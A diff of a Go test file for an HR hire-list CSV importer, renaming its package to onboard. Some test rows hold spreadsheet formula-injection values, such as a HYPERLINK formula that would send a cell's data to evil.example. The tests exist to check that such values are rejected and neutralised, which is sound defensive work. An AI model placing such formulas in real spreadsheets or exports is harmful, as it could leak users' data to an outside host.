@@ -1,4 +1,4 @@
-package sync_test
+package onboard_test
 
 import (
 	"bytes"
@@ -15,7 +15,7 @@ import (
 	"unicode/utf16"
 
 	"github.com/hrsync/hrsync/source/v1"
-	hrsync "github.com/hrsync/hrsync/sync"
+	"github.com/hrsync/hrsync/sync/onboard"
 )
 
 func emp(first, last, email, title, date string) v1.NewEmployee {
@@ -33,7 +33,7 @@ func readSample(t *testing.T, name string) []byte {
 }
 
 // checkHires compares a ReadHires result with what was wanted, saying every difference.
-func checkHires(t *testing.T, gotH []hrsync.Hire, gotP []hrsync.RowProblem, err error, wantH []hrsync.Hire, wantP []hrsync.RowProblem) {
+func checkHires(t *testing.T, gotH []onboard.Hire, gotP []onboard.RowProblem, err error, wantH []onboard.Hire, wantP []onboard.RowProblem) {
 	t.Helper()
 	if err != nil {
 		t.Fatalf("ReadHires: %v", err)
@@ -59,19 +59,19 @@ const notADate = "join_date: not a date (use YYYY/MM/DD or YYYY-MM-DD)"
 func TestReadHiresSamples(t *testing.T) {
 	tests := []struct {
 		file string
-		opts hrsync.HireOptions
-		want []hrsync.Hire
-		prob []hrsync.RowProblem
+		opts onboard.HireOptions
+		want []onboard.Hire
+		prob []onboard.RowProblem
 	}{{
 		// Excel on Windows, "CSV UTF-8": BOM, CRLF, a line break inside a cell written as LF,
 		// human headers, quoted commas, blank rows at the end.
 		file: "excel-windows.csv",
-		want: []hrsync.Hire{
+		want: []onboard.Hire{
 			{Line: 2, Employee: emp("Zoë", "Ødegård", "zoe.odegard@example.com", "Product Designer", "2025-03-03")},
 			{Line: 3, Employee: emp("John", "Smith, Jr.", "john.smith@example.com", "Head of Sales, EMEA", "2025-03-10")},
 			{Line: 9, Employee: emp("Seán", "O'Brien", "sean.obrien@example.com", "", "2025-03-24")},
 		},
-		prob: []hrsync.RowProblem{
+		prob: []onboard.RowProblem{
 			{Line: 5, Email: "AMELIE.DUBOIS@EXAMPLE.COM", Reason: notADate},
 			{Line: 6, Email: "amelie.dubois@example.com", Reason: "email: used again (first on line 5)", Duplicate: true},
 			{Line: 7, Email: "priya.natarajan@example.com", Reason: "last_name: missing"},
@@ -80,53 +80,53 @@ func TestReadHiresSamples(t *testing.T) {
 	}, {
 		// Excel in a European locale: ';', dates as the locale writes them.
 		file: "excel-europe.csv",
-		want: []hrsync.Hire{
+		want: []onboard.Hire{
 			{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
 		},
-		prob: []hrsync.RowProblem{
+		prob: []onboard.RowProblem{
 			{Line: 2, Email: "juergen.mueller@example.de", Reason: notADate},
 			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: notADate},
 			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address; " + notADate},
 		},
 	}, {
 		file: "excel-europe.csv",
-		opts: hrsync.HireOptions{DateLayout: "02.01.2006"},
-		want: []hrsync.Hire{
+		opts: onboard.HireOptions{DateLayout: "02.01.2006"},
+		want: []onboard.Hire{
 			{Line: 2, Employee: emp("Jürgen", "Müller", "juergen.mueller@example.de", "Vertrieb; Innendienst", "2025-04-01")},
 			{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
 		},
-		prob: []hrsync.RowProblem{
+		prob: []onboard.RowProblem{
 			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31.01.2025)"},
 			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
 		},
 	}, {
 		// Google Sheets: LF, no BOM, no line end after the last row, snake_case headers.
 		file: "google-sheets.csv",
-		want: []hrsync.Hire{
+		want: []onboard.Hire{
 			{Line: 2, Employee: emp("李", "小龙", "xiaolong.li@example.cn", "软件工程师", "2025-05-05")},
 			{Line: 3, Employee: emp("Ольга", "Иванова", "olga.ivanova@example.com", "Бухгалтер", "2025-05-12")},
 			{Line: 4, Employee: emp("محمد", "العلي", "mohammed.alali@example.com", "مهندس", "2025-05-19")},
 			{Line: 6, Employee: emp("Minh Khai", "Nguyễn", "KHAI.NGUYEN@example.com", "Designer", "2025-06-02")},
 		},
-		prob: []hrsync.RowProblem{
+		prob: []onboard.RowProblem{
 			{Line: 5, Email: "'@SUM(A1:A2)", Reason: "email: not a valid email address"},
 			{Line: 7, Email: "khai.nguyen@EXAMPLE.com", Reason: "email: used again (first on line 6)", Duplicate: true},
 		},
 	}, {
 		// Excel 2008 for Mac: lone CRs, also inside a cell.
 		file: "excel-mac-2008.csv",
-		want: []hrsync.Hire{
+		want: []onboard.Hire{
 			{Line: 2, Employee: emp("Renee", "Fleming", "renee.fleming@example.com", "Soprano", "2025-07-01")},
 			{Line: 5, Employee: emp("Marie", "Curie", "marie.curie@example.com", "Physicist", "2025-07-14")},
 		},
-		prob: []hrsync.RowProblem{
+		prob: []onboard.RowProblem{
 			{Line: 3, Email: "emile.zola@example.com", Reason: "job_title: contains control characters"},
 		},
 	}}
 	for _, tt := range tests {
 		t.Run(tt.file+"/"+tt.opts.DateLayout, func(t *testing.T) {
 			data := readSample(t, tt.file)
-			h, p, err := hrsync.ReadHires(bytes.NewReader(data), tt.opts)
+			h, p, err := onboard.ReadHires(bytes.NewReader(data), tt.opts)
 			checkHires(t, h, p, err, tt.want, tt.prob)
 			// However the reads split the bytes (a CRLF across two reads, a BOM byte by byte).
 			for name, r := range map[string]io.Reader{
@@ -134,7 +134,7 @@ func TestReadHiresSamples(t *testing.T) {
 				"half":      iotest.HalfReader(bytes.NewReader(data)),
 				"data, EOF": iotest.DataErrReader(bytes.NewReader(data)),
 			} {
-				h, p, err := hrsync.ReadHires(r, tt.opts)
+				h, p, err := onboard.ReadHires(r, tt.opts)
 				if err != nil || !slices.Equal(h, tt.want) || !slices.Equal(p, tt.prob) {
 					t.Errorf("read %s at a time: %s %s %v", name, dump(h), dump(p), err)
 				}
@@ -144,7 +144,7 @@ func TestReadHiresSamples(t *testing.T) {
 }
 
 func TestReadHiresHeaders(t *testing.T) {
-	want := []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "Analyst", "2025-01-06")}}
+	want := []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "Analyst", "2025-01-06")}}
 	tests := []struct {
 		name   string
 		header string
@@ -168,16 +168,16 @@ func TestReadHiresHeaders(t *testing.T) {
 			in := tt.header + "\n" + tt.row + "\n"
 			w := slices.Clone(want)
 			w[0].Line = strings.Count(in, "\n")
-			h, p, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{})
+			h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
 			checkHires(t, h, p, err, w, nil)
 		})
 	}
 	t.Run("no job title column", func(t *testing.T) {
-		h, p, err := hrsync.ReadHires(strings.NewReader("First name,Last name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), hrsync.HireOptions{})
-		checkHires(t, h, p, err, []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}}, nil)
+		h, p, err := onboard.ReadHires(strings.NewReader("First name,Last name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{})
+		checkHires(t, h, p, err, []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}}, nil)
 	})
 	t.Run("full name is not first name", func(t *testing.T) {
-		_, _, err := hrsync.ReadHires(strings.NewReader("Name,Email,Join date\nAda Lovelace,ada@example.com,2025-01-06\n"), hrsync.HireOptions{})
+		_, _, err := onboard.ReadHires(strings.NewReader("Name,Email,Join date\nAda Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{})
 		if err == nil || !strings.Contains(err.Error(), "first_name") || !strings.Contains(err.Error(), "last_name") {
 			t.Fatalf("err = %v, want first_name and last_name missing", err)
 		}
@@ -193,7 +193,7 @@ func TestReadHiresFormats(t *testing.T) {
 		{"", "", "", "", "", ""},
 		{"Ana", "García", "ana@example.com", "", "2025-04-07", "x"},
 	}
-	want := []hrsync.Hire{
+	want := []onboard.Hire{
 		{Line: 2, Employee: emp("Zoë", "Ødegård", "zoe@example.com", "Designer", "2025-03-03")},
 		{Line: 3, Employee: emp("John", "Smith, Jr.", "john@example.com", `Head of "Sales"; EMEA`, "2025-03-10")},
 		{Line: 6, Employee: emp("Ana", "García", "ana@example.com", "", "2025-04-07")},
@@ -220,7 +220,7 @@ func TestReadHiresFormats(t *testing.T) {
 								w[i].Line++
 							}
 						}
-						h, p, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{})
+						h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
 						checkHires(t, h, p, err, w, nil)
 					})
 				}
@@ -235,43 +235,43 @@ func TestReadHiresRowProblems(t *testing.T) {
 	tests := []struct {
 		name string
 		row  string
-		opts hrsync.HireOptions
-		want hrsync.RowProblem // Line 2 unless set
+		opts onboard.HireOptions
+		want onboard.RowProblem // Line 2 unless set
 	}{
-		{"first name missing", ",Lovelace,ada@example.com,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "first_name: missing"}},
-		{"blank first name", "  ,Lovelace,ada@example.com,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "first_name: missing"}},
-		{"last name missing", "Ada,,ada@example.com,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "last_name: missing"}},
-		{"email missing", "Ada,Lovelace,,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Reason: "email: missing"}},
-		{"join date missing", "Ada,Lovelace,ada@example.com,,", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: missing"}},
-		{"short row", "Ada,Lovelace,ada@example.com", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: missing"}},
-		{"all missing but a note", ",,,Analyst,", hrsync.HireOptions{}, hrsync.RowProblem{Reason: "first_name: missing; last_name: missing; email: missing; join_date: missing"}},
-		{"email without domain dot", "Ada,Lovelace,ada@example,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example", Reason: "email: not a valid email address"}},
-		{"email with a name", `Ada,Lovelace,Ada Lovelace <ada@example.com>,,2025-01-06`, hrsync.HireOptions{}, hrsync.RowProblem{Email: "Ada Lovelace <ada@example.com>", Reason: "email: not a valid email address"}},
-		{"two emails", `Ada,Lovelace,"ada@example.com, al@example.com",,2025-01-06`, hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com, al@example.com", Reason: "email: not a valid email address"}},
-		{"day first", "Ada,Lovelace,ada@example.com,,03/04/2025", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"month first", "Ada,Lovelace,ada@example.com,,04/30/2025", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"unpadded", "Ada,Lovelace,ada@example.com,,2025-3-4", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"mixed separators", "Ada,Lovelace,ada@example.com,,2025-03/04", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"timestamp", "Ada,Lovelace,ada@example.com,,2025-03-04 00:00:00", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"Excel serial", "Ada,Lovelace,ada@example.com,,45720", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"words", "Ada,Lovelace,ada@example.com,,next Monday", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"no such day", "Ada,Lovelace,ada@example.com,,2025-02-29", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
-		{"no such month", "Ada,Lovelace,ada@example.com,,2025/13/01", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
-		{"year zero", "Ada,Lovelace,ada@example.com,,0000-01-01", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
-		{"not the layout", "Ada,Lovelace,ada@example.com,,2025.03.04", hrsync.HireOptions{DateLayout: "02/01/2006"}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
-		{"not a day in the layout", "Ada,Lovelace,ada@example.com,,31/04/2025", hrsync.HireOptions{DateLayout: "02/01/2006"}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
-		{"year zero in the layout", "Ada,Lovelace,ada@example.com,,31/12/0000", hrsync.HireOptions{DateLayout: "02/01/2006"}, hrsync.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
-		{"too long", "Ada," + long + ",ada@example.com,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "last_name: too long (maximum is 255 characters)"}},
-		{"line break in a name", "\"Ada\nAugusta\",Lovelace,ada@example.com,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "first_name: contains control characters"}},
-		{"tab in a title", "Ada,Lovelace,ada@example.com,Analyst\tLead,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "job_title: contains control characters"}},
-		{"several", "Ada,,ada@@example.com,,2025-02-30", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@@example.com", Reason: "last_name: missing; email: not a valid email address; join_date: not a calendar date"}},
-		{"shifted by an unquoted comma", "Ada,Lovelace,ada@example.com,Analyst, Finance,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "ada@example.com", Reason: "row has 6 cells but the header has 5, and the extra cells are not blank"}},
-		{"bare quote", `Dwayne "The Rock",Johnson,dj@example.com,,2025-01-06`, hrsync.HireOptions{}, hrsync.RowProblem{Reason: `quotes: a " inside a cell that is not quoted (quote the cell and double the ")`}},
-		{"text after a closing quote", `"Smith" Jr.,Johnson,dj@example.com,,2025-01-06`, hrsync.HireOptions{}, hrsync.RowProblem{Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}},
-		{"formula as email", `Ada,Lovelace,"=HYPERLINK(""https://evil.example"",""click"")",,2025-01-06`, hrsync.HireOptions{}, hrsync.RowProblem{Email: `'=HYPERLINK("https://evil.example","click")`, Reason: "email: not a valid email address"}},
-		{"plus as email", "Ada,Lovelace,+1,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "'+1", Reason: "email: not a valid email address"}},
-		{"minus as email", "Ada,Lovelace,-2,,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "'-2", Reason: "email: not a valid email address"}},
-		{"at as email", "Ada,Lovelace,@SUM(A1:A9),,2025-01-06", hrsync.HireOptions{}, hrsync.RowProblem{Email: "'@SUM(A1:A9)", Reason: "email: not a valid email address"}},
+		{"first name missing", ",Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: missing"}},
+		{"blank first name", "  ,Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: missing"}},
+		{"last name missing", "Ada,,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "last_name: missing"}},
+		{"email missing", "Ada,Lovelace,,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Reason: "email: missing"}},
+		{"join date missing", "Ada,Lovelace,ada@example.com,,", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: missing"}},
+		{"short row", "Ada,Lovelace,ada@example.com", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: missing"}},
+		{"all missing but a note", ",,,Analyst,", onboard.HireOptions{}, onboard.RowProblem{Reason: "first_name: missing; last_name: missing; email: missing; join_date: missing"}},
+		{"email without domain dot", "Ada,Lovelace,ada@example,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example", Reason: "email: not a valid email address"}},
+		{"email with a name", `Ada,Lovelace,Ada Lovelace <ada@example.com>,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: "Ada Lovelace <ada@example.com>", Reason: "email: not a valid email address"}},
+		{"two emails", `Ada,Lovelace,"ada@example.com, al@example.com",,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com, al@example.com", Reason: "email: not a valid email address"}},
+		{"day first", "Ada,Lovelace,ada@example.com,,03/04/2025", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"month first", "Ada,Lovelace,ada@example.com,,04/30/2025", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"unpadded", "Ada,Lovelace,ada@example.com,,2025-3-4", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"mixed separators", "Ada,Lovelace,ada@example.com,,2025-03/04", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"timestamp", "Ada,Lovelace,ada@example.com,,2025-03-04 00:00:00", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"Excel serial", "Ada,Lovelace,ada@example.com,,45720", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"words", "Ada,Lovelace,ada@example.com,,next Monday", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
+		{"no such day", "Ada,Lovelace,ada@example.com,,2025-02-29", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
+		{"no such month", "Ada,Lovelace,ada@example.com,,2025/13/01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
+		{"year zero", "Ada,Lovelace,ada@example.com,,0000-01-01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
+		{"not the layout", "Ada,Lovelace,ada@example.com,,2025.03.04", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
+		{"not a day in the layout", "Ada,Lovelace,ada@example.com,,31/04/2025", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
+		{"year zero in the layout", "Ada,Lovelace,ada@example.com,,31/12/0000", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
+		{"too long", "Ada," + long + ",ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "last_name: too long (maximum is 255 characters)"}},
+		{"line break in a name", "\"Ada\nAugusta\",Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: contains control characters"}},
+		{"tab in a title", "Ada,Lovelace,ada@example.com,Analyst\tLead,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "job_title: contains control characters"}},
+		{"several", "Ada,,ada@@example.com,,2025-02-30", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@@example.com", Reason: "last_name: missing; email: not a valid email address; join_date: not a calendar date"}},
+		{"shifted by an unquoted comma", "Ada,Lovelace,ada@example.com,Analyst, Finance,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "row has 6 cells but the header has 5, and the extra cells are not blank"}},
+		{"bare quote", `Dwayne "The Rock",Johnson,dj@example.com,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Reason: `quotes: a " inside a cell that is not quoted (quote the cell and double the ")`}},
+		{"text after a closing quote", `"Smith" Jr.,Johnson,dj@example.com,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}},
+		{"formula as email", `Ada,Lovelace,"=HYPERLINK(""https://evil.example"",""click"")",,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: `'=HYPERLINK("https://evil.example","click")`, Reason: "email: not a valid email address"}},
+		{"plus as email", "Ada,Lovelace,+1,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "'+1", Reason: "email: not a valid email address"}},
+		{"minus as email", "Ada,Lovelace,-2,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "'-2", Reason: "email: not a valid email address"}},
+		{"at as email", "Ada,Lovelace,@SUM(A1:A9),,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "'@SUM(A1:A9)", Reason: "email: not a valid email address"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -282,10 +282,10 @@ func TestReadHiresRowProblems(t *testing.T) {
 			// A good row after the bad one: the bad one does not stop the reading.
 			in := header + tt.row + "\nGrace,Hopper,grace@example.com,,2025-01-13\n"
 			next := strings.Count(header+tt.row, "\n") + 2
-			h, p, err := hrsync.ReadHires(strings.NewReader(in), tt.opts)
+			h, p, err := onboard.ReadHires(strings.NewReader(in), tt.opts)
 			checkHires(t, h, p, err,
-				[]hrsync.Hire{{Line: next, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
-				[]hrsync.RowProblem{want})
+				[]onboard.Hire{{Line: next, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
+				[]onboard.RowProblem{want})
 			for _, p := range p {
 				if strings.ContainsAny(p.Reason, "\r\n") || strings.Contains(p.Reason, "Lovelace") {
 					t.Errorf("reason %q is not one line free of values", p.Reason)
@@ -295,8 +295,8 @@ func TestReadHiresRowProblems(t *testing.T) {
 	}
 	// On the last line, without a line end, too.
 	t.Run("quote never closed at the end", func(t *testing.T) {
-		h, p, err := hrsync.ReadHires(strings.NewReader(header+`Ada,"Lovelace,ada@example.com,,2025-01-06`), hrsync.HireOptions{})
-		checkHires(t, h, p, err, nil, []hrsync.RowProblem{{Line: 2, Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}})
+		h, p, err := onboard.ReadHires(strings.NewReader(header+`Ada,"Lovelace,ada@example.com,,2025-01-06`), onboard.HireOptions{})
+		checkHires(t, h, p, err, nil, []onboard.RowProblem{{Line: 2, Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}})
 	})
 }
 
@@ -305,49 +305,49 @@ func TestReadHiresRowShapes(t *testing.T) {
 	tests := []struct {
 		name string
 		rows string
-		want []hrsync.Hire
-		prob []hrsync.RowProblem
+		want []onboard.Hire
+		prob []onboard.RowProblem
 	}{
 		{
 			name: "blank cells past the header are ignored",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06,, ,\n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
 		},
 		{
 			name: "cells are trimmed",
 			rows: "  Ada\u00a0 ,\tLovelace , ada@example.com ,  2025-01-06  \n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
 		},
 		{
 			name: "quoted cells after spaces",
 			rows: `Ada, "Lovelace, Countess", ada@example.com,2025-01-06` + "\n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace, Countess", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace, Countess", "ada@example.com", "", "2025-01-06")}},
 		},
 		{
 			name: "blank rows of every kind are skipped",
 			rows: ",,,\n\n   \n , ,\t, \n\"\",\"\",,\nAda,Lovelace,ada@example.com,2025-01-06\n,,,\n,,,\n",
-			want: []hrsync.Hire{{Line: 7, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{{Line: 7, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
 		},
 		{
 			name: "a blank row with a quoted line break is still blank",
 			rows: "\"\n\",,,\nAda,Lovelace,ada@example.com,2025-01-06\n",
-			want: []hrsync.Hire{{Line: 4, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{{Line: 4, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
 		},
 		{
 			name: "a lone CR in a CRLF file is in a cell, not a line end",
 			rows: "\"Ada\rAugusta\",Lovelace,\"ada\r@example.com\",2025-01-06\r\nGrace,Hopper,grace@example.com,2025-01-13\r\n",
-			want: []hrsync.Hire{{Line: 3, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
-			prob: []hrsync.RowProblem{{Line: 2, Email: "ada\r@example.com", Reason: "first_name: contains control characters; email: contains control characters; email: not a valid email address"}},
+			want: []onboard.Hire{{Line: 3, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
+			prob: []onboard.RowProblem{{Line: 2, Email: "ada\r@example.com", Reason: "first_name: contains control characters; email: contains control characters; email: not a valid email address"}},
 		},
 		{
 			name: "decomposed accents are kept as given",
 			rows: "Zoe\u0308,O\u0308degard,zoe@example.com,2025-01-06\n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Zoe\u0308", "O\u0308degard", "zoe@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{{Line: 2, Employee: emp("Zoe\u0308", "O\u0308degard", "zoe@example.com", "", "2025-01-06")}},
 		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			h, p, err := hrsync.ReadHires(strings.NewReader(header+tt.rows), hrsync.HireOptions{})
+			h, p, err := onboard.ReadHires(strings.NewReader(header+tt.rows), onboard.HireOptions{})
 			checkHires(t, h, p, err, tt.want, tt.prob)
 		})
 	}
@@ -362,14 +362,14 @@ func TestReadHiresLineNumbers(t *testing.T) {
 		"\"Alan\",\"Turing\",\"alan@example.com\",\"2025-01-20\",\"\"\"quoted\"\"\r\nnote\"\r\n" + // 10-11
 		"Katherine,Johnson,KATHERINE@example.com,2025-01-27,\"a lone CR\ris no line end here\"\r\n" + // 12
 		"Katherine,Johnson,katherine@example.com,2025-01-27,\n" // 13
-	h, p, err := hrsync.ReadHires(strings.NewReader(in), hrsync.HireOptions{})
+	h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
 	checkHires(t, h, p, err,
-		[]hrsync.Hire{
+		[]onboard.Hire{
 			{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")},
 			{Line: 10, Employee: emp("Alan", "Turing", "alan@example.com", "", "2025-01-20")},
 			{Line: 12, Employee: emp("Katherine", "Johnson", "KATHERINE@example.com", "", "2025-01-27")},
 		},
-		[]hrsync.RowProblem{
+		[]onboard.RowProblem{
 			{Line: 6, Email: "grace", Reason: "email: not a valid email address"},
 			{Line: 13, Email: "katherine@example.com", Reason: "email: used again (first on line 12)", Duplicate: true},
 		})
@@ -390,7 +390,7 @@ func TestReadHiresLoneCR(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			h, p, err := hrsync.ReadHires(strings.NewReader(tt.in), hrsync.HireOptions{})
+			h, p, err := onboard.ReadHires(strings.NewReader(tt.in), onboard.HireOptions{})
 			if err != nil || len(p) != 0 {
 				t.Fatalf("problems %s, err %v", dump(p), err)
 			}
@@ -410,16 +410,16 @@ func TestReadHiresDuplicates(t *testing.T) {
 	tests := []struct {
 		name string
 		rows string
-		want []hrsync.Hire
-		prob []hrsync.RowProblem
+		want []onboard.Hire
+		prob []onboard.RowProblem
 	}{
 		{
 			name: "any case, every repeat names the first",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\n" +
 				"Ada,Lovelace,ADA@Example.COM,2025-01-06\n" +
 				"Ada,King,Ada@example.com,2025-02-03\n",
-			want: []hrsync.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
-			prob: []hrsync.RowProblem{
+			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			prob: []onboard.RowProblem{
 				{Line: 3, Email: "ADA@Example.COM", Reason: "email: used again (first on line 2)", Duplicate: true},
 				{Line: 4, Email: "Ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true},
 			},
@@ -427,13 +427,13 @@ func TestReadHiresDuplicates(t *testing.T) {
 		{
 			name: "non-ASCII case",
 			rows: "Élodie,Martin,élodie@exemple.fr,2025-01-06\nÉlodie,Martin,ÉLODIE@EXEMPLE.FR,2025-01-06\n",
